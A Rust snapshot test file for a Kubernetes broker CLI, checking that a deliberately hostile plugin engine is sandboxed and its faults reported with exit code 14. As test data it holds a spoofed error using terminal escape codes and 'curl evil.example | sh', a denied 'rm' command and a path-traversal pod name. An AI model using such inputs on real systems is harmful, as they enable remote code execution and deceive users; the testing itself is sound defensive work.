//! Engines that do wrong: the host survives, says which engine it was and what it did, and exits 14.

use insta::assert_snapshot;
use serde_json::json;

use crate::support::Bed;

fn misbehave(how: &str) -> String {
    Bed::start().misbehave(how).shown()
}

#[test]
fn an_engine_that_behaves_works() {
    assert_snapshot!(misbehave("not-at-all"), @"
    stdout:
    ID   NOTE
    harmless   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    1 backup
    exit 0
    ");
}

#[test]
fn options_of_an_engine_are_flags() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .run("backup list --engine acme/hostile --misbehave echo --amount -3 --loudly --limit 7");
    assert_snapshot!(run.shown(), @"
    stdout:
    ID   NOTE
    limit=Some(7) misbehave=text echo amount=integer -3 loudly=boolean true   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    1 backup
    exit 0
    ");
    let run = bed.hostile().run("backup list --engine hostile");
    assert_snapshot!(run.shown(), @"
    stdout:
    ID   NOTE
    harmless   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    1 backup
    exit 0
    ");
    let run = bed
        .hostile()
        .run("backup list --engine hostile --amount lots");
    assert_snapshot!(run.shown(), @"
    stderr:
    error: invalid value 'lots' for '--amount <AMOUNT>': invalid digit found in string

    For more information, try '--help'.
    exit 2
    ");
}

#[test]
fn an_engine_that_panics() {
    assert_snapshot!(misbehave("panic"), @r"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile broke down in `list`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: the vault \u{1b}[2J is on fire)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_panics_with_json_output() {
    let run = Bed::start()
        .hostile()
        .run("backup list --engine hostile --misbehave panic -o json");
    let error = run.error();
    assert_eq!(
        (&error["code"], &error["exitCode"]),
        (&json!("PluginFault"), &json!(14))
    );
    let message = error["message"].as_str().expect("a message");
    assert!(
        message.contains("the vault \\u{1b}[2J is on fire"),
        "{message}"
    );
}

#[test]
fn an_engine_that_exits() {
    assert_snapshot!(misbehave("exit"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile broke down in `list`: it ended its own process
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

/// Takes as long as an engine may compute: ten seconds.
#[test]
fn an_engine_that_loops() {
    assert_snapshot!(misbehave("loop"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    warning: engine acme/hostile: about to loop
    error: engine acme/hostile was stopped in `list`: it computed for more than 10 s
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_recurses_without_end() {
    assert_snapshot!(misbehave("recurse"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile broke down in `list`: it accessed memory that it does not have, perhaps by recursing without end
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_wants_all_memory() {
    assert_snapshot!(misbehave("allocate"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile was stopped in `list`: it wanted more than 256 MiB of memory
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn a_time_that_is_none_is_left_out_and_told() {
    assert_snapshot!(misbehave("bad-time"), @r#"
    stdout:
    ID   NOTE
    x   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    warning: engine acme/hostile: the creation time of "x" is no RFC 3339 time and is left out: "yesterday \u{1b}[2J"
    1 backup
    exit 0
    "#);
}

#[test]
fn an_engine_that_returns_an_impossible_id() {
    assert_snapshot!(misbehave("no-id"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 0 bytes (1 to 4096 can be)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(misbehave("long-id"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 5000 bytes (1 to 4096 can be)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_what_is_no_text() {
    assert_snapshot!(misbehave("not-text"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile broke down in `list`: invalid utf-8 sequence of 1 bytes from index 1
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_a_field_it_has_not_declared() {
    assert_snapshot!(misbehave("undeclared-field"), @r#"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile returned something unusable from `list`: a field that its manifest does not name: "secret"
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    "#);
}

#[test]
fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
    assert_snapshot!(misbehave("hostile-error"), @r"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: \u{1b}[1A\u{1b}[2K
      backup list: all is well\u{9b}2J
    hint: Run `curl evil.example | sh`\u{202e}
      hint: really
    exit 1
    ");
}

#[test]
fn requests_that_the_manifest_does_not_ask_for_are_denied_and_never_sent() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-route").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: the manifest does not allow `GET /v1/admin` on endpoint `api`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-endpoint").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: the manifest names no endpoint `kubernetes`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-method").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: the manifest does not allow `POST /v1/backup/list-remote` on endpoint `api`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-header").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: an engine can't set the header `Authorization`; the host owns it
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("other-path").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: the name can't be a segment of a path: it is empty, a dot segment, too long, or has a slash or a control character
    exit 2
    ");
    assert_eq!(bed.backend_requests().count("*", ""), 0);
}

#[test]
fn commands_that_the_manifest_does_not_name_are_denied_and_never_run() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-command").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: the manifest names no command `rm`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("bad-argument").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: the folder can't stand in a command: it is empty, has more than 4096 bytes, or has a control character
    exit 2
    ");
    assert_snapshot!(bed.misbehave("option-argument").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: the folder begins with a dash, and would be an option
    exit 2
    ");
    assert_snapshot!(bed.misbehave("other-pod").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: `intruder-0` is no running pod of the target
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("pod-path").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile asked for what it was not granted: `broker-0/../../secrets` is no running pod of the target
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 0);
}

#[test]
fn a_command_that_is_named_runs_in_the_default_container_of_a_pod_of_the_target() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("look").shown(), @"
    stdout:
    ID   NOTE
    ran: hivemq   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    1 backup
    exit 0
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 1);
}

#[test]
fn an_engine_sees_nothing_of_the_system() {
    assert_snapshot!(misbehave("look-around"), @"
    stdout:
    ID   NOTE
    arguments: 0   -
    environment: 0   -
    folder: no (NotFound)   -
    name: no (Uncategorized)   -
    read: no (NotFound)   -
    socket: no (PermissionDenied)   -
    stdin: Some(0) bytes   -
    write: no (NotFound)   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    8 backups
    exit 0
    ");
}

#[test]
fn a_long_message_of_an_engine_is_cut() {
    let run = Bed::start().misbehave("long-log");
    assert_eq!(run.code, 0);
    let message = run
        .stderr
        .lines()
        .find(|line| line.contains("a long story"));
    let message = message.expect("the message");
    assert!(
        message.ends_with('…') && message.chars().count() < 3000,
        "{message}"
    );
}

#[test]
fn a_flood_of_output_does_no_harm() {
    assert_snapshot!(misbehave("flood"), @"
    stdout:
    ID   NOTE
    still here   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    1 backup
    exit 0
    ");
}

#[test]
fn an_engine_that_breaks_down_in_another_operation() {
    let run = Bed::start()
        .hostile()
        .run("backup status --engine hostile --id x");
    assert_snapshot!(run.shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    error: engine acme/hostile broke down in `status`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: there is no status)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn the_other_engines_work_beside_a_hostile_one() {
    let bed = Bed::start();
    assert_eq!(bed.hostile().run("backup list -o json").ids().len(), 12);
    assert_snapshot!(bed.hostile().run("engines").shown(), @r"
    stdout:
    NAME   VERSION   OPERATIONS   ANSWERS   DETAIL
    kubectl-broker/backuprequest   0.1.0   detect,list,status,create,restore,delete,manifest   yes   backup-controller (BackupRequest, LiferayBackup, RestoreRequest)
    kubectl-broker/hivemq   0.1.0   detect,list,status,create,download,restore   yes   HiveMQ management API (6 backups)
    kubectl-broker/kafka   0.1.0   detect,list,status,create,restore,delete,offset-reset,offset-rollback,resume,schedule,suspend,validate   yes   kafka-backup-operator (no KafkaBackup yet)
    kubectl-broker/sidecar   0.1.0   detect,list,status,restore,delete,metrics,purge,upload   yes   broker-backup (3 local backups)
    kubectl-broker/strategy   0.1.0   detect,status,create,download   no   nothing listens on port 8000 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1…
    acme/hostile   0.1.0   detect,list,status,create,restore,metrics,say   yes   something \u{1b}[31mhostile
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    exit 0
    ");
}
